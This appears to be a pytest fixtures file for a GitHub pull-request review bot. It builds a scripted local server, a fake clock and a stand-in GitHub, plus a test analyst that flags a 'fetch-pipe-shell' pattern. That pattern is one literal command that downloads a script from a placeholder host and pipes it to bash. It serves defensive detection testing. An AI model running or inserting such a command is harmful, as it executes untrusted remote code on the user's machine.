"""A server that answers from a script, for what a well-behaved GitHub never does; and a clock that never really waits."""

import time
import tomllib
from collections.abc import AsyncIterator, Awaitable, Callable, Sequence
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from aiohttp import ClientSession, web

from bot.core.language_table import parse
from bot.core.languages import Languages
from bot.core.markdown import SIGNATURE, marks
from bot.github.client import Client, Wire
from bot.github.forge import GitHubForge
from bot.github.seal import Seal
from bot.model import Cause, Hit, Job, Outcome, Pull, PullRequest, Scan, Source
from bot.review import review
from bot.sandbox.repository import Pull as StandInPull
from bot.sandbox.server import StandIn
from tests.nouns import rule, rulebook

Handler = Callable[[web.Request], Awaitable[web.StreamResponse]]


class Clock:
    """Sleeping moves the time on and is remembered."""

    def __init__(self, start: float = 1_800_000_000.0) -> None:
        self.time = start
        self.slept: list[float] = []

    def now(self) -> float:
        return self.time

    async def sleep(self, seconds: float) -> None:
        self.slept.append(seconds)
        self.time += seconds


@dataclass
class Script:
    """Answers in order, the last one for ever; each a handler or (status, JSON, headers)."""

    url: str = ""
    answers: list[object] = field(default_factory=list)
    requests: list[tuple[str, str]] = field(default_factory=list)
    headers: list[dict[str, str]] = field(default_factory=list)
    bodies: list[bytes] = field(default_factory=list)

    def says(self, *answers: object) -> None:
        self.answers = list(answers)

    async def serve(self, request: web.Request) -> web.StreamResponse:
        self.requests.append((request.method, request.raw_path))
        self.headers.append({k.lower(): v for k, v in request.headers.items()})
        self.bodies.append(await request.read())
        answer = self.answers.pop(0) if len(self.answers) > 1 else self.answers[0]
        if callable(answer):
            made: web.StreamResponse = await answer(request)
            return made
        assert isinstance(answer, tuple)
        status, data, *rest = answer
        return web.json_response(data, status=status, headers=rest[0] if rest else None)


async def hang_up(request: web.Request) -> web.StreamResponse:
    assert request.transport is not None
    request.transport.abort()
    return web.Response()


class Anybody:
    """A credential that is never questioned."""

    async def authorization(self) -> str:
        return "token nobody"

    def pause(self, error: Exception, authorization: str, denials: int) -> float | None:
        return None


@pytest.fixture
def clock() -> Clock:
    return Clock()


@pytest.fixture
def counts() -> list[tuple[str, int]]:
    """(operation, status) of each exchange."""
    return []


@pytest.fixture
async def session() -> AsyncIterator[ClientSession]:
    async with ClientSession() as made:
        yield made


@pytest.fixture
async def script() -> AsyncIterator[Script]:
    script = Script()
    app = web.Application()
    app.router.add_route("*", "/{tail:.*}", script.serve)
    runner = web.AppRunner(app, access_log=None)
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", 0).start()
    script.url = f"http://127.0.0.1:{runner.addresses[0][1]}"
    yield script
    await runner.cleanup()


@pytest.fixture
def wire(script: Script, session: ClientSession, clock: Clock, counts: list[tuple[str, int]]) -> Wire:
    return Wire(
        session,
        script.url,
        f"{script.url}/graphql",
        sleep=clock.sleep,
        now=clock.now,
        counted=lambda operation, status: counts.append((operation, status)),
    )


@pytest.fixture
def client(wire: Wire) -> Client:
    return Client(wire, Anybody(), installation=7)


# --- the stand-in GitHub, and the whole story against it -------------------------------------------------------------------

PIPED = "curl -s get.example/install.sh | bash"


class Reader:
    """An analyst that finds one thing, on added lines."""

    async def scan(self, sources: Sequence[Source]) -> Scan:
        hits = []
        for source in sources:
            for number, text in enumerate(source.text.split("\n"), 1):
                if PIPED in text and number in source.lines.added:
                    hits.append(
                        Hit("fetch-pipe-shell", source.path, number, number, PIPED, {"HOST": "get.example"}, text.strip())
                    )
        return Scan(tuple(hits))


def languages() -> Languages:
    table = Path(__file__).parents[2] / "rules" / "languages.toml"
    return parse(tomllib.loads(table.read_text("utf-8")))


def sealed(pull: StandInPull, body: str) -> str:
    """A body as we would have posted it there."""
    world, name = pull.repository.world, Pull(0, pull.repository.id, "", "", pull.number)
    return Seal([world.app.webhook_secret]).close(body, name)


def unsealed(body: str) -> str:
    """A posted body as it was planned."""
    return "\n".join(line for line in body.split("\n") if [m.kind for m in marks(line)] != [SIGNATURE])


class House:
    """The product against the stand-in: `look` is one run of the story, as a job would do it."""

    def __init__(self, github: StandIn, session: ClientSession, clock: Clock, secrets: Sequence[str] = ()) -> None:
        self.github, self.clock = github, clock
        self.counts: list[tuple[str, int]] = []
        self.forge = GitHubForge(
            session,
            api_url=github.url,
            graphql_url=github.graphql_url,
            issuer=github.app.client_id,
            app_id=github.app.id,
            private_key=github.app.private_key,
            secrets=secrets or [github.app.webhook_secret],
            sleep=clock.sleep,
            now=clock.now,
            counted=lambda operation, status: self.counts.append((operation, status)),
        )
        self.rulebook = rulebook(rule())
        self.languages = languages()

    def job(self, pull: StandInPull, head: str | None = "now") -> Job:
        repository = pull.repository
        installation = self.github.world.installation_of(repository.owner.login)
        assert installation is not None
        name = Pull(installation.id, repository.id, repository.owner.login, repository.name, pull.number)
        return Job("delivery-1", name, Cause.PUSHED, pull.head_sha if head == "now" else head)

    async def look(self, pull: StandInPull, job: Job | None = None) -> Outcome:
        return await review(job or self.job(pull), self.forge, Reader(), self.rulebook, self.languages, "2026-11-22")

    def operations(self) -> list[str]:
        """What was asked of GitHub since the journal was cleared, in order, the minting of tokens aside."""
        return [exchange.operation.replace("/repos/{owner}/{repo}", "") for exchange in self.github.journal.calls]


@pytest.fixture
async def github() -> AsyncIterator[StandIn]:
    async with StandIn() as standin:
        yield standin


@pytest.fixture
def house(github: StandIn, session: ClientSession) -> House:
    return House(github, session, Clock(time.time()))


@pytest.fixture
def pull(github: StandIn) -> StandInPull:
    return github.repository("acme/rocket").open_pull({"tests/test_a.py": "".join(f"{n}\n" for n in range(40))})


@pytest.fixture
async def request_(house: House, pull: StandInPull) -> PullRequest:
    return await house.forge.pull(house.job(pull))
